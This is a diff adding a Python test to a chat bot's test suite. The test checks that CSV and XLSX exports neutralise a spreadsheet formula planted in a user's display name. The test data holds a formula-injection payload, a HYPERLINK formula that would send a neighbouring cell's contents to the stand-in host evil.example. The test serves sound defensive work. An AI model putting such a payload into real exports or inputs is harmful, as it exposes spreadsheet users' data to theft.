@@ -147,3 +147,25 @@ async def test_a_quiet_series_is_noticed_once(bot, cohort):
         bot.user(TRAINER).last.text
     bot.clock.advance(days=3)
     assert await notice() == 0  # once per quiet spell
+
+
+async def test_exports_never_run_a_formula_someone_typed_as_their_name(bot, cohort):
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    trainer, _, _ = cohort
+    sly = bot.user(777, '=HYPERLINK("http://evil.example/?"&B2,"Klik")')
+    from tests.fakes.journeys import join, make_invite
+
+    await join(sly, await make_invite(trainer))
+    await trainer.send("/table")
+    await trainer.click("CSV")
+    rows = list(csv.reader(io.StringIO(trainer.last.file_bytes.decode("utf-8-sig"))))
+    names = [row[0] for row in rows[1:]]
+    assert "'=HYPERLINK(\"http://evil.example/?\"&B2,\"Klik\")" in names
+    await trainer.click("XLSX", message=trainer.last_with_buttons())
+    sheet = load_workbook(io.BytesIO(trainer.last.file_bytes)).active
+    cells = [c for c in sheet["A"] if str(c.value).startswith(("'=", "="))]
+    assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)
